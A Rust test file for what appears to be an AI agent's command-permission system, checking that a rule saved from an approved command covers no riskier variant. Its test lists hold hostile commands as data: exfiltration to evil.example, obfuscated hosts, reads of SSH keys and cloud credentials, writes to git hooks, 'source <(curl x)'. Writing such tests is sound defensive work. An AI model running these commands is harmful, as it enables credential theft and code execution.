//! Tests of the limits of an offer: its rule covers the next command of its kind, and nothing that does more.

use crate::testing::{HOME, Scene};
use crate::{Decision, Pattern, Rule, RuleOrigin, TargetPath};

fn scene(command: &str) -> Scene {
    let more = [
        "head", "mkdir", "ssh", "sed", "node", "tar", "zip", "unzip", "pax", "ln", "wget", "gh", "psql",
        "rsync", "kill", "make", "just", "mvn", "gradle", "uudecode", "convert", "gnuplot", "mpv", "ffmpeg",
        "split", "pandoc", "helm", "dart", "dig", "pip", "yarn", "uv", "pipx", "conda", "gem", "poetry",
        "mise", "brew", "pod", "gcc", "rustc", "go", "ffprobe", "glow", "svn", "grep", "identify",
        "exiftool", "nmap", "tofu", "jira", "docker", "flyway", "liquibase", "vite", "next", "turbo",
        "bazel", "npx", "pytest", "alembic", "sentry-cli", "dotnet", "tool", "astro", "chromatic", "stripe",
    ];
    let scene =
        more.iter().fold(Scene::new(), |scene, name| scene.program(&format!("/usr/bin/{name}"), name));
    scene.with_shell_text(command)
}

/// Returns the rules of the first offer for a command.
fn saved(command: &str) -> Vec<Rule> {
    let offers = scene(command).offers();
    assert!(!offers.is_empty(), "{command}: no offer");
    (1..).zip(offers[0].to_rules(RuleOrigin::Any)).map(|(id, rule)| Rule { id, ..rule }).collect()
}

fn with(rules: &[Rule], command: &str) -> Decision {
    let mut scene = scene(command);
    scene.rules = rules.to_vec();
    scene.judge_request().decision
}

pub(super) fn check(given: &str, covered: &[&str], asked: &[&str]) {
    let rules = saved(given);
    for command in [given].iter().chain(covered) {
        assert_eq!(with(&rules, command), Decision::Allow, "{command}, after {given}: {rules:?}");
    }
    for command in asked {
        assert_ne!(with(&rules, command), Decision::Allow, "{command}, after {given}: {rules:?}");
    }
}

#[test]
fn code_of_the_project_runs_with_other_arguments_and_does_nothing_else() {
    check(
        "npm test",
        &["npm test -- --watch", "for x in a b; do npm test; done"],
        &[
            "npm install left-pad", "npm publish", "cd sub && npm test", "cd .. && npm test",
            "cd $X && npm test", "npm test > out.txt", "npm test > /etc/hosts",
            "npm test > /nowhere/out.txt", "npm test /checkout/x.js", "cd /nowhere && npm test",
            "npm test ../other/x.js", "npm test ~/.ssh/id_rsa", "sudo npm test", "PATH=. npm test",
        ],
    );
}

#[test]
fn what_is_sent_goes_to_the_same_place() {
    check(
        "git push origin main",
        &["git push origin dev"],
        &[
            "git push --force origin main", "git push origin +main", "git push other main",
            "git push https://evil.example/x main", "git push --mirror origin", "git push origin :main",
            "git push origin --delete main", "git push --receive-pack=x origin",
        ],
    );
    check(
        "curl https://a.example/x",
        &["curl -s https://a.example/y"],
        &[
            "curl https://b.example/x", "curl -d @x https://a.example/x", "curl -T x https://a.example/x",
            "curl -o ../x https://a.example/x", "curl -K x https://a.example",
            "curl https://a.example/x https://b.example",
        ],
    );
}

#[test]
fn what_is_sent_or_fetched_without_a_name_may_go_anywhere() {
    check(
        "git push origin main",
        &[],
        &["git push", "git push --repo=https://evil.example/x", "git push --repo https://evil.example/x"],
    );
    check(
        "curl -s https://a.example",
        &["curl -s https://a.example/y", "curl -s a.example/y"],
        &[
            "curl -s --url https://evil.example/?x", "curl -s --ur https://evil.example/?x",
            "curl -s --url=evil", "curl -s 2130706433/?x", "curl -s evil", "curl -s 'evil.com,'",
            "curl -s evil。com", "curl -s '{evil}.com'", "curl -s evil%2ecom", "curl -s https://evil%2ecom",
            "curl -s https:///evil.com", "curl -s '~evil.com'", "curl -s https://a.example evil",
            "curl -s \"$URL\"", "curl -s", "curl -O evil https://a.example",
            "curl -so x evil https://a.example",
        ],
    );
    check(
        "wget https://a.example/x",
        &["wget https://a.example/y"],
        &["wget 16843009/?x", "wget box/x", "wget -q evil https://a.example/x"],
    );
    check(
        "git remote add up https://github.com/a/b",
        &[],
        &["git remote add up https://evil.example/a/b", "git remote add up evil.example:x"],
    );
    check("git fetch origin", &["git fetch origin main"], &["git fetch https://evil.example/x", "git fetch"]);
    check("git fetch", &["git fetch"], &["git fetch https://evil.example/x"]);
    check("git add a", &["git add b", "git add -A"], &[]);
}

#[test]
fn places_of_the_system_are_read_only() {
    let tar = [
        "tar xzf g.tgz -C /usr/local/bin", "tar xzf g.tgz -C /opt/homebrew/bin",
        "tar xzf g.tgz --directory=/usr/bin",
    ];
    check("tar czf a.tgz src", &["tar czf b.tgz docs"], &tar);
    check(
        "zip -qr a.zip src",
        &["zip -qr b.zip docs"],
        &["zip -qr /opt/homebrew/bin/x src", "zip -qr /usr/local/bin/x src"],
    );
    check(
        "cp a b",
        &["cp c d"],
        &["cp --target-directory=/usr/local/bin a", "cp a /usr/local/bin", "cp -t/opt/x a"],
    );
    check(
        "rsync -a src/ dst/",
        &[],
        &["rsync -a --log-file=/usr/local/bin/x src/ dst/", "rsync -a src/ /opt/x"],
    );
    check("unzip a.zip", &["unzip b.zip"], &["unzip a.zip -d /usr/local/bin"]);
    check("grep x notes", &["grep x /usr/include/a.h"], &[]);
    let rules = saved("cp a b");
    let mut linked = scene("cp a link");
    linked.rules = rules;
    linked.targets = vec![TargetPath { written: "link".to_owned(), real: "/usr/local/bin/x".to_owned() }];
    assert_ne!(linked.judge_request().decision, Decision::Allow, "a link into the system");
    let mut matched = scene("cp src/* out");
    matched.rules = saved("cp a b");
    matched.targets =
        vec![TargetPath { written: "src/k".to_owned(), real: "/Users/u/.ssh/id_rsa".to_owned() }];
    assert_ne!(matched.judge_request().decision, Decision::Allow, "a pattern that stands for a link");
}

#[test]
fn a_protected_place_is_written_by_no_option_and_under_no_name() {
    check(
        "cp a b",
        &["cp a sub/", "cp -t sub a"],
        &[
            "cp --target-directory=.git/hooks post-commit", "cp -t.git/hooks post-commit",
            "cp -t .git/hooks post-commit", "cp --targ=.vscode tasks.json", "cp x/.mcp.json .",
            "cp x/.mcp.json y a", "cp x/.envrc sub/", "cp -r x/.git .",
        ],
    );
    check("mv a b", &[], &["mv --target-directory=.git/hooks a", "mv x/.mcp.json ."]);
    check("ln -s a b", &[], &["ln -s -t.git/hooks a", "ln -s x/.envrc ."]);
    check(
        "tar czf a.tgz src",
        &[],
        &["tar xzf t.tgz -C .git/hooks", "tar xzf t.tgz --directory=.git/hooks", "tar czf .envrc src"],
    );
    check("unzip a.zip", &[], &["unzip a.zip -d .claude"]);
    check("zip -qr a.zip src", &[], &["zip -r .mcp.json src"]);
    check(
        "git mv a b",
        &["git mv c d"],
        &["git mv settings.json .mcp.json", "git mv zshrc .envrc", "git mv b .git/hooks/pre-commit"],
    );
    check(
        "git clone https://github.com/a/b",
        &["git clone https://github.com/a/c d"],
        &["git clone https://github.com/e/v .vscode", "git clone https://github.com/e/v .claude"],
    );
}

#[test]
fn everyday_work_needs_one_answer() {
    for (given, next) in [
        ("git commit -m x", "git commit -m 'fix: y'"),
        ("git commit -m x", "git commit -am \"$(date)\""),
        ("git add src/a.rs", "git add -A docs"),
        ("git checkout -b x", "git checkout -b feature/y"),
        ("git stash", "git stash pop"),
        ("git push origin main", "git push -u origin dev"),
        ("cp src/a src/b", "cp -r src docs"),
        ("mv a b", "mv src/a.rs src/b.rs"),
        ("mkdir -p src/a", "mkdir docs"),
        ("touch a", "touch src/b"),
        ("sed -i s/a/b/ f", "sed -i '/x/d' src/g"),
        ("sed -n 1,5p f", "sed -n '10,$p' src/g"),
        ("tar czf a.tgz src", "tar czf b.tgz docs src"),
        ("tar xzf a.tgz", "tar xzf b.tgz -C build"),
        ("zip -qr a.zip src", "zip -r b.zip docs"),
        ("unzip a.zip", "unzip b.zip -d build"),
        ("curl -s https://a.example", "curl -sSL -H 'A: b' https://a.example/x?y=1"),
        ("curl -s -o out https://a.example", "curl -s -o src/out https://a.example/z"),
        ("wget -O x https://a.example", "wget -O y https://a.example/z"),
        ("npm install", "npm install"),
        ("npm install left-pad", "npm install left-pad"),
        ("gh pr view 1", "gh pr view 2"),
        ("gh pr view 1", "for n in 1 2 3; do gh pr view $n; done"),
        ("gh pr create -t x --body y", "gh pr create -t z --body \"$(date)\""),
        ("ln -s a b", "ln -s src/a src/b"),
        ("rm build.o", "rm src/x.o"),
        ("grep x f", "for f in a b; do grep x \"$f\"; done"),
        ("rsync -a src/ dst/", "rsync -av src/ build/"),
        ("kill 123", "kill 124"),
        ("sort -o a b", "sort -u -o c d"),
    ] {
        let rules = saved(given);
        let mut scene = scene(next).program("/usr/bin/date", "date");
        scene.rules.clone_from(&rules);
        scene.policy.settings.look = crate::Access::Allow;
        let verdict = scene.judge_request();
        assert_eq!(verdict.decision, Decision::Allow, "{next}, after {given}: {:?}", verdict.cause);
    }
}

#[test]
fn a_text_on_the_input_is_input() {
    check(
        "zip -qr a.zip src",
        &[],
        &[
            "zip -q k.zip -@ <<< ~/.ssh/id_rsa", "zip -q k.zip -@ <<E\n/Users/u/.ssh/id_rsa\nE",
            "zip -q k.zip -@ <<< src/a",
        ],
    );
    check("psql app", &[], &["psql app <<< 'drop table x'", "psql app <<E\n\\! id\nE"]);
    check("psql app <<< 'select 1'", &[], &["psql app <<< 'drop table x'", "psql app -c x <<< 'select 1'"]);
    check(
        "git commit -F - <<'E'\nA message\nE",
        &["git commit -F - <<'E'\nAnother: message, of /two words\n\n- src/a.rs\nE"],
        &["git commit -F - <<< ~/.ssh/id_rsa"],
    );
}

#[test]
fn services_of_a_project_start_from_its_own_file() {
    check(
        "docker compose up -d",
        &["docker compose up -d api"],
        &[
            "docker compose -f /tmp/x.yml up -d", "docker compose run web ls", "docker compose down -v",
            "docker run x", "cd /opt/other && docker compose up -d",
        ],
    );
}

#[test]
fn what_is_written_stays_in_the_folder_and_off_protected_places() {
    check(
        "cat > notes.md <<'E'\nx\nE",
        &["cat > src/other.md <<'E'\ny\nE", "cat >> notes.md <<'E'\ny\nE"],
        &[
            "cat > ../x <<'E'\ny\nE", "cat > ~/x <<'E'\ny\nE", "cat > /etc/x <<'E'\ny\nE",
            "cat > .git/hooks/pre-commit <<'E'\ny\nE", "cat > sub/.zshrc <<'E'\ny\nE",
            "cat > \"$OUT\" <<'E'\ny\nE", "cat ~/.ssh/id_rsa > x", "cat ../other/x > x",
            "cd .. && cat > x <<'E'\ny\nE",
        ],
    );
    check("printf x > a.txt", &["printf y > b.txt"], &["printf x > ../a.txt", "printf -v PATH x > a.txt"]);
    check(
        "echo $! > a.pid",
        &["echo $! > b.pid", "echo \"built $X\" >> notes.txt"],
        &["echo $! > ../a.pid", "echo $! > .git/hooks/pre-commit"],
    );
    check("printf '%s' \"$X\" > a", &["printf '%s' \"$Y\" > b"], &["printf \"$X\" > b"]);
    check(
        "mkdir -p /Users/u/project/a",
        &["mkdir b", "mkdir -p /Users/u/project/c/d"],
        &["mkdir ../x", "mkdir /Users/u/x", "mkdir \"$X\"", "mkdir -p .git/hooks", "mkdir -p a ~/.ssh"],
    );
    check(
        "cp a b",
        &["cp src/a src/b"],
        &[
            "cp a ../b", "cp ~/.ssh/id_rsa b", "cp a .git/hooks/pre-commit", "cp .env b", "cp a .git/config",
            "cp a $X", "cp -r . /tmp2/x",
        ],
    );
    check(
        "rm build.o",
        &["rm src/x.o"],
        &["rm -r src", "rm -rf .", "rm ../x", "rm ~/x", "rm $X", "rm .git/config", "rm /etc/hosts"],
    );
}

#[test]
fn a_link_that_leads_elsewhere_is_not_followed() {
    let rules = saved("cat > notes.md <<'E'\nx\nE");
    for (written, real) in [("notes.md", "/Users/u/.zshrc"), ("notes.md", "/opt/x")] {
        let mut scene = scene("cat > notes.md <<'E'\nx\nE");
        scene.rules.clone_from(&rules);
        scene.targets = vec![TargetPath { written: written.to_owned(), real: real.to_owned() }];
        assert_ne!(scene.judge_request().decision, Decision::Allow, "{real}");
    }
    let mut moved = scene("cd sub && npm test");
    moved.rules = saved("npm test");
    moved.targets = vec![TargetPath { written: "sub".to_owned(), real: "/opt/evil".to_owned() }];
    assert_ne!(moved.judge_request().decision, Decision::Allow, "the folder is a link");
}

#[test]
fn what_is_read_stays_where_it_was() {
    check(
        "grep -rn x src",
        &["grep y docs/a", "grep x /usr/include/a.h"],
        &[
            "grep x ~/.ssh/id_rsa", "grep x .env", "grep x ../other/f", "grep x \"$F\"", "grep -f ../x y",
            "grep x /tmp/x",
        ],
    );
    check(
        "head /Users/u/code/lib/a.txt",
        &["head -5 /Users/u/code/lib/b/c.txt", "head a"],
        &["head /Users/u/code/x", "head ~/.aws/credentials", "head /Users/u/code/lib/../../.netrc"],
    );
}

#[test]
fn a_home_folder_is_no_place_for_everything() {
    let at_home = |command: &str| {
        let mut scene = scene(command);
        scene.cwd = HOME.to_owned();
        scene
    };
    let offers = at_home("cat > notes.md <<'E'\nx\nE").offers();
    assert_eq!(
        offers.iter().map(|offer| offer.id).collect::<Vec<_>>(),
        ["exact"],
        "nothing wider is written there"
    );
    let rules: Vec<Rule> = at_home("grep x notes").offers()[0].to_rules(RuleOrigin::Any).collect();
    for (command, expected) in [
        ("grep y notes", Decision::Allow),
        ("grep -r y .", Decision::Ask),
        ("grep -r y", Decision::Ask),
        ("grep y .ssh/config", Decision::Ask),
        ("grep -r y /Users", Decision::Ask),
    ] {
        let mut scene = at_home(command);
        scene.rules.clone_from(&rules);
        assert_eq!(scene.judge_request().decision, expected, "{command}");
    }
}

#[test]
fn an_exact_command_writes_the_same_file() {
    let rule = |command: &str| {
        let offers = scene(command).offers();
        let exact = offers.iter().find(|offer| offer.id == "exact").unwrap();
        exact.to_rules(RuleOrigin::Any).collect::<Vec<Rule>>()
    };
    let rules = rule("ls > out.txt");
    assert_eq!(with(&rules, "ls > out.txt"), Decision::Allow);
    for command in ["ls > other.txt", "ls > out.txt 2> err.txt", "ls -a > out.txt", "cd sub && ls > ../x"] {
        assert_ne!(with(&rules, command), Decision::Allow, "{command}");
    }
}

#[test]
fn another_folder_is_one_that_was_shown() {
    check(
        "cd /opt/other && git status",
        &["cd /opt/other && git status -s", "cd /opt/other/sub && git status"],
        &[
            "cd /opt && git status", "cd /opt/other && git push", "cd /srv/x && git status",
            "cd $X && git status", "git status",
        ],
    );
}

#[test]
fn code_in_the_request_is_covered_as_it_is() {
    check(
        "python3 -c 'print(1)'",
        &[],
        &[
            "python3 -c 'print(2)'", "python3 -c 'print(1)' > x", "python3 -",
            "cd .. && python3 -c 'print(1)'", "node -e 'print(1)'",
        ],
    );
    check(
        "python3 - <<'E'\nprint(1)\nE",
        &["python3 - <<'OTHER'\nprint(1)\nOTHER"],
        &[
            "python3 - <<'E'\nprint(2)\nE", "python3 - <<'E'\nprint(1)\n\nE",
            "python3 - <<'E' < x\nprint(1)\nE", "cat x | python3 - 3<<'E'\nprint(1)\nE",
            "exec 3< x; python3 - <<'E' <&3\nprint(1)\nE", "exec 3< x; python3 - <<'E' 0>&3\nprint(1)\nE",
            "{ head -1; python3 -; } <<'E'\nprint(1)\nE", "python3 - <<'E' <<'F'\nprint(1)\nE\nprint(2)\nF",
            "cat x | python3 -", "python3 - < x", "python3 -",
        ],
    );
    assert!(scene("python3 - <<E\nprint($X)\nE").offers().is_empty(), "the shell puts something in");
}

#[test]
fn a_rule_for_a_line_is_about_that_line_in_that_folder() {
    let rules = saved("source ../env.sh && npm test");
    let judged = |scene: Scene| scene.judge_request().decision;
    let mut other = scene("source ../env.sh && npm test");
    other.rules.clone_from(&rules);
    assert_eq!(other.judge_request().decision, Decision::Allow);
    other.cwd = HOME.to_owned();
    assert_ne!(other.judge_request().decision, Decision::Allow, "in another folder");
    for command in
        ["source ../env.sh && npm test x", "source ../other.sh && npm test", "source ../env.sh", "npm test"]
    {
        assert_ne!(with(&rules, command), Decision::Allow, "{command}");
    }
    let mut denied = scene("source ../env.sh && npm test").with_deny_rule("npm test");
    denied.rules.extend(rules.iter().cloned().map(|rule| Rule { id: 9, ..rule }));
    assert_eq!(judged(denied), Decision::Deny, "deny rules are stronger");
    let mut fed = scene("source ../env.sh && npm test");
    fed.rules.clone_from(&rules);
    fed.input = crate::Input::Text("aa".to_owned());
    assert_ne!(judged(fed), Decision::Allow, "it was given without input");
}

#[test]
fn a_rule_for_a_line_covers_nothing_that_only_the_run_knows_or_the_agent_can_exchange() {
    for line in ["ls > \"$OUT\"", "cp a $(cat to)", "cat a $x", "cd sub && npm test", "cd $x && npm test"] {
        let rules: Vec<Rule> = saved("source ../env.sh && npm test")
            .into_iter()
            .map(|rule| Rule {
                pattern: Pattern::Exact(vec!["bash".into(), "-c".into(), line.into()]),
                ..rule
            })
            .collect();
        assert_eq!(with(&rules, line), Decision::Ask, "{line}");
    }
}

#[test]
fn a_file_of_commands_is_read_as_it_was_named() {
    check(
        "source venv/bin/activate && npm test",
        &["source venv/bin/activate && npm test -- x", "source venv/bin/activate; npm test", "npm test"],
        &[
            "source venv/bin/other && npm test", "source venv/bin/activate x", "source <(curl x)",
            "source /dev/stdin <<< 'rm x'", "source venv/bin/activate && npm publish",
            "cd .. && source venv/bin/activate", "source $X && npm test",
        ],
    );
}

#[test]
fn limits_belong_to_narrow_allow_rules() {
    let rule = &saved("npm test")[0];
    assert!(crate::check_rule(rule, HOME).is_ok());
    assert!(crate::check_rule(&Rule { broad: true, ..rule.clone() }, HOME).is_err());
    let denies = Rule { effect: crate::Effect::Deny, folder: None, ..rule.clone() };
    assert!(crate::check_rule(&denies, HOME).is_err());
}

#[test]
fn a_rule_for_one_target_covers_no_other_one() {
    for (given, covered, asked) in [
        ("make test", "make test -k", "make test deploy"),
        ("just test", "just test", "just test deploy"),
        ("mvn clean", "mvn clean -q", "mvn clean deploy"),
        ("gradle build", "gradle build", "gradle build publish"),
    ] {
        check(given, &[covered], &[asked]);
    }
}

#[test]
fn an_effect_of_the_same_kind_that_does_another_thing_is_more() {
    check(
        "git commit -m x",
        &["git commit -m y", "git commit -am z"],
        &[
            "git commit --amend", "git commit --amend --no-edit", "git commit --no-verify -m x",
            "git commit -n -m x",
        ],
    );
    check(
        "git push origin main",
        &["git push origin dev"],
        &["git push --no-verify origin main", "git push --all origin", "git push --tags origin"],
    );
    check("git branch x", &["git branch y"], &["git branch -D x", "git branch -m main y"]);
    check("git stash", &["git stash push -m x"], &["git stash drop", "git stash clear"]);
}

#[test]
fn a_call_of_a_server_is_about_the_same_repository() {
    check(
        "gh pr comment 1 -b hi",
        &["gh pr comment 2 -b there"],
        &[
            "gh pr comment 1 -b hi -R evil/x", "gh pr comment 1 -b hi --repo=evil/x",
            "gh pr comment https://github.com/evil/x/pull/1 -b hi",
        ],
    );
    check("gh pr create --fill", &["gh pr create -t x -b y"], &["gh pr create --fill -R evil/x"]);
    check("gh pr view 1 -R o/r", &["gh pr view 2 -R o/r"], &["gh pr view 1 -R evil/x", "gh pr view 2"]);
    check(
        "gh api repos/acme/site",
        &["gh api repos/acme/site/pulls", "gh api /repos/acme/site/pulls?page=2"],
        &[
            "gh api repos/evil/x", "gh api user", "gh api https://api.github.com/repos/evil/x",
            "gh api -X GET repos/evil/x",
        ],
    );
}
